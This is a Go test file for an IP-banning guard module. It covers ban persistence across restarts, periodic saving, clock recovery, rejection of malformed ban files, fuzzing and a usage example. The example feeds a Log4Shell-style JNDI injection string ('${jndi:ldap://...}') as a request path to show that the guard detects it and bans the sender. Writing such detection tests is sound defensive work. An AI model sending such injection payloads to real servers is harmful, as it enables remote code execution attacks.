package guard

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

// runFor runs g's Run for d of a synctest bubble's time.
func runFor(t *testing.T, g *Guard, d time.Duration) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), d)
	defer cancel()
	if err := g.Run(ctx); err != nil {
		t.Errorf("Run: %v", err)
	}
}

func TestBansSurviveRestart(t *testing.T) {
	file := filepath.Join(t.TempDir(), "bans.json")
	synctest.Test(t, func(t *testing.T) {
		g := New(Config{File: file})
		start := time.Now()
		g.Observe(ip("203.0.113.7"), NoServerName, start.Add(-time.Second))
		g.Observe(ip("203.0.113.7"), UnknownHost, start)
		g.Observe(ip("2001:db8:1:2::7"), Junk, start)
		if err := g.Ban(ip("203.0.113.9"), 90*24*time.Hour, "was <rude>", start); err != nil {
			t.Fatal(err)
		}
		if err := g.Ban(ip("203.0.113.10"), time.Second, "soon over", start); err != nil {
			t.Fatal(err)
		}
		runFor(t, g, 3*time.Second)
		want := g.Bans(time.Now())
		if len(want) != 3 {
			t.Fatalf("%d bans before the restart, want 3", len(want))
		}

		again := New(Config{File: file})
		again.Load(time.Now())
		opts := cmp.Options{
			cmpopts.EquateApproxTime(time.Second / 4),
			cmp.Comparer(func(a, b netip.Prefix) bool { return a == b }),
		}
		if diff := cmp.Diff(want, again.Bans(time.Now()), opts); diff != "" {
			t.Errorf("after the restart (-before +after):\n%s", diff)
		}

		// The one that is over is remembered: the next is longer.
		again.Observe(ip("203.0.113.10"), Junk, time.Now())
		for _, b := range again.Bans(time.Now()) {
			if b.Prefix.Addr() == ip("203.0.113.10") && b.Past != 1 {
				t.Errorf("%d bans before, want 1: %+v", b.Past, b)
			}
		}

		// And with nothing new, the file is left alone.
		third := New(Config{File: file})
		third.Load(time.Now())
		if err := os.Remove(file); err != nil {
			t.Fatal(err)
		}
		runFor(t, third, time.Hour)
		if _, err := os.Stat(file); !errors.Is(err, os.ErrNotExist) {
			t.Error("written although nothing changed")
		}
	})
}

// Saved at most once a minute, when changed, and at the end.
func TestRunSaves(t *testing.T) {
	file := filepath.Join(t.TempDir(), "bans.json")
	synctest.Test(t, func(t *testing.T) {
		g := New(Config{File: file})
		ctx, cancel := context.WithCancel(t.Context())
		ended := make(chan error)
		go func() { ended <- g.Run(ctx) }() // waited for below
		count := func() int {
			data, err := os.ReadFile(file)
			if errors.Is(err, os.ErrNotExist) {
				return -1
			}
			f, err := parseBans(data)
			if err != nil {
				t.Fatal(err)
			}
			return len(f.Bans)
		}
		g.Observe(v4(1), Junk, time.Now())
		time.Sleep(59 * time.Second)
		synctest.Wait()
		if n := count(); n != -1 {
			t.Errorf("after 59s: %d bans in the file, want no file", n)
		}
		time.Sleep(2 * time.Second)
		synctest.Wait()
		if n := count(); n != 1 {
			t.Errorf("after 61s: %d bans in the file, want 1", n)
		}
		g.Observe(v4(2), Junk, time.Now())
		cancel()
		if err := <-ended; err != nil {
			t.Errorf("Run: %v", err)
		}
		if n := count(); n != 2 {
			t.Errorf("at the end: %d bans in the file, want 2", n)
		}
		g.Observe(v4(2), Junk, time.Now().Add(time.Hour))
		runFor(t, g, 30*24*time.Hour)
		if n := count(); n != 0 {
			t.Errorf("a month later: %d bans in the file, want all forgotten", n)
		}
	})
}

func TestRunTellsOnceThatSavingFails(t *testing.T) {
	folder := filepath.Join(t.TempDir(), "data")
	synctest.Test(t, func(t *testing.T) {
		var out bytes.Buffer
		g := New(Config{File: filepath.Join(folder, "bans.json"), Log: slog.New(slog.NewTextHandler(&out, nil))})
		g.Observe(v4(1), Junk, time.Now())
		ctx, cancel := context.WithTimeout(t.Context(), 5*time.Minute+time.Second)
		defer cancel()
		if err := g.Run(ctx); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("Run: %v, want %v", err, os.ErrNotExist)
		}
		if err := os.Mkdir(folder, 0o700); err != nil {
			t.Fatal(err)
		}
		runFor(t, g, 2*time.Minute)
		if n := strings.Count(out.String(), "\n"); n != 2 ||
			!strings.Contains(out.String(), "bans not saved") || !strings.Contains(out.String(), "saved again") {
			t.Errorf("log is\n%swant one line when it fails and one when it works again", &out)
		}
	})
}

func TestTrialBansAreNotKept(t *testing.T) {
	file := filepath.Join(t.TempDir(), "bans.json")
	synctest.Test(t, func(t *testing.T) {
		g := New(Config{File: file, Mode: Detect})
		g.Observe(v4(1), Junk, time.Now())
		runFor(t, g, time.Second)
		again := New(Config{File: file})
		again.Load(time.Now())
		if b := again.Bans(time.Now()); len(b) != 0 {
			t.Errorf("Bans = %+v, want none", b)
		}
	})
}

// The clock at the start may be anything: a Raspberry Pi has no battery.
func TestRestoreClock(t *testing.T) {
	saved := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	const h = time.Hour
	for _, tt := range []struct {
		name         string
		since, until time.Duration // from saved
		now          time.Duration // from saved
		want         time.Duration // left; 0: not banned
	}{
		{"at once", -h, 23 * h, 0, 23 * h},
		{"an hour later", -h, 23 * h, h, 22 * h},
		{"when it is over", -h, 23 * h, 23 * h, 0},
		{"long after", -h, 23 * h, 1e6 * h, 0},
		{"clock behind: what was left", -h, 23 * h, -5 * h, 23 * h},
		{"clock at 1970", -h, 23 * h, -492_000 * h, 23 * h},
		{"began in the future", 5 * h, 29 * h, 0, 24 * h},
		{"ends before it began", 5 * h, 4 * h, 0, 0},
		{"lasts for ever", -h, 1e6 * h, 0, 0},
	} {
		t.Run(tt.name, func(t *testing.T) {
			g := New(Config{})
			f := &banFile{Version: 1, Saved: saved, Bans: []bannedOne{{
				Prefix: netip.MustParsePrefix("203.0.113.7/32"), Reason: "junk",
				Since: saved.Add(tt.since), Until: saved.Add(tt.until),
			}}}
			now := saved.Add(tt.now)
			g.restore(f, now)
			var got time.Duration
			for _, b := range g.Bans(now) {
				got = b.Until.Sub(now)
			}
			if got != tt.want {
				t.Errorf("%s left, want %s", got, tt.want)
			}
		})
	}
}

func TestRestoreSkips(t *testing.T) {
	const good = `"since":"2026-03-01T11:00:00Z","until":"2026-03-01T13:00:00Z"`
	for _, tt := range []struct{ name, entry string }{
		{"no network", `{"reason":"junk",` + good + `}`},
		{"a network too wide", `{"prefix":"203.0.112.0/20","reason":"junk",` + good + `}`},
		{"an IPv6 address", `{"prefix":"2001:db8::1/128","reason":"junk",` + good + `}`},
		{"a network with host bits", `{"prefix":"2001:db8::1/64","reason":"junk",` + good + `}`},
		{"a reason of another version", `{"prefix":"203.0.113.7/32","reason":"dreamt",` + good + `}`},
		{"never banned", `{"prefix":"127.0.0.1/32","reason":"junk",` + good + `}`},
		{"over and forgotten", `{"prefix":"203.0.113.7/32","reason":"junk","since":"2020-03-01T11:00:00Z","until":"2020-03-01T13:00:00Z"}`},
		{"no times", `{"prefix":"203.0.113.7/32","reason":"junk"}`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			f, err := parseBans([]byte(`{"version":1,"saved":"2026-03-01T12:00:00Z","bans":[` + tt.entry + `]}`))
			if err != nil {
				t.Fatal(err)
			}
			g := New(Config{})
			restored, skipped := g.restore(f, t0)
			if restored != 0 || skipped != 1 || len(g.Bans(t0)) != 0 {
				t.Errorf("restored %d, skipped %d, want 0 and 1", restored, skipped)
			}
		})
	}
}

func TestLoadDamaged(t *testing.T) {
	for _, tt := range []struct{ name, content string }{
		{"empty", ""},
		{"cut off", `{"version":1,"saved":"2026-03-01T12:00:00Z","bans":[{"prefix":"203.0`},
		{"zeros", "\x00\x00\x00\x00"},
		{"not ours", `{"bans":[]}`},
		{"a later version", `{"version":2}`},
		{"a list", `[]`},
		{"a wrong type", `{"version":1,"bans":[{"prefix":7}]}`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			file := filepath.Join(t.TempDir(), "bans.json")
			if err := os.WriteFile(file, []byte(tt.content), 0o600); err != nil {
				t.Fatal(err)
			}
			var out bytes.Buffer
			g := New(Config{File: file, Log: slog.New(slog.NewTextHandler(&out, nil))})
			g.Load(t0)
			if got, err := os.ReadFile(file + ".corrupt"); err != nil || string(got) != tt.content {
				t.Errorf("moved aside: %q, %v, want the damaged file", got, err)
			}
			if _, err := os.Stat(file); !errors.Is(err, os.ErrNotExist) {
				t.Error("the damaged file is still in place")
			}
			if !strings.Contains(out.String(), "level=ERROR") {
				t.Errorf("log is %q, want an error", &out)
			}
			g.Observe(v4(1), Junk, t0)
			if !g.Banned(v4(1), t0) {
				t.Error("the guard does not work after a damaged file")
			}
		})
	}
	t.Run("no file", func(t *testing.T) {
		var out bytes.Buffer
		g := New(Config{File: filepath.Join(t.TempDir(), "bans.json"), Log: slog.New(slog.NewTextHandler(&out, nil))})
		g.Load(t0)
		if out.Len() > 0 {
			t.Errorf("log is %q, want nothing on a first start", &out)
		}
	})
	t.Run("a folder", func(t *testing.T) {
		dir := t.TempDir()
		var out bytes.Buffer
		g := New(Config{File: dir, Log: slog.New(slog.NewTextHandler(&out, nil))})
		g.Load(t0)
		if !strings.Contains(out.String(), "level=ERROR") {
			t.Errorf("log is %q, want an error", &out)
		}
	})
}

func FuzzBanFile(f *testing.F) {
	f.Add([]byte(`{"version":1,"saved":"2026-03-01T12:00:00Z","bans":[{"prefix":"203.0.113.7/32","reason":"junk",` +
		`"since":"2026-03-01T11:00:00Z","until":"2026-03-01T13:00:00Z","signals":{"junk":1},"past":1}]}`))
	f.Add([]byte(`{"version":1,"saved":"9999-01-01T00:00:00Z","bans":[{"prefix":"2001:db8::/64","reason":"manual",` +
		`"since":"0001-01-01T00:00:00Z","until":"9999-01-01T00:00:00Z","first":"0001-01-01T00:00:00Z","note":"x"}]}`))
	f.Add([]byte(`{"version":1,"bans":[{},{"signals":{"junk":-1,"x":99}}]}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		file, err := parseBans(data)
		if err != nil {
			return
		}
		g := New(Config{MaxBans: 16, Slots: 1})
		g.restore(file, t0)
		for _, b := range g.Bans(t0) {
			left := b.Until.Sub(t0)
			if left <= 0 || left > maxManual || b.Until.Before(b.Since) || !validPrefix(b.Prefix) {
				t.Fatalf("restored %+v", b)
			}
			if !g.Banned(b.Prefix.Addr(), t0) {
				t.Fatalf("%s is listed but not banned", b.Prefix)
			}
			if _, err := json.Marshal(entryOf(b)); err != nil {
				t.Fatalf("cannot be saved again: %v", err)
			}
		}
	})
}

func ExampleGuard() {
	g := New(Config{OnBan: func(b Ban) { fmt.Println("banned", b.Prefix, "for", b.Reason) }})
	addr, now := netip.MustParseAddr("203.0.113.7"), time.Now()
	if _, bad := g.Shape("GET", "/?x=${jndi:ldap://192.0.2.1/a}", "mypi.example.org"); bad {
		g.Observe(addr, BadShape, now)
	}
	fmt.Println(g.AllowConn(addr, now).Reason)
	// Output:
	// banned 203.0.113.7/32 for bad_shape
	// banned
}

func validPrefix(p netip.Prefix) bool {
	_, ok := keyOfPrefix(p)
	return ok
}
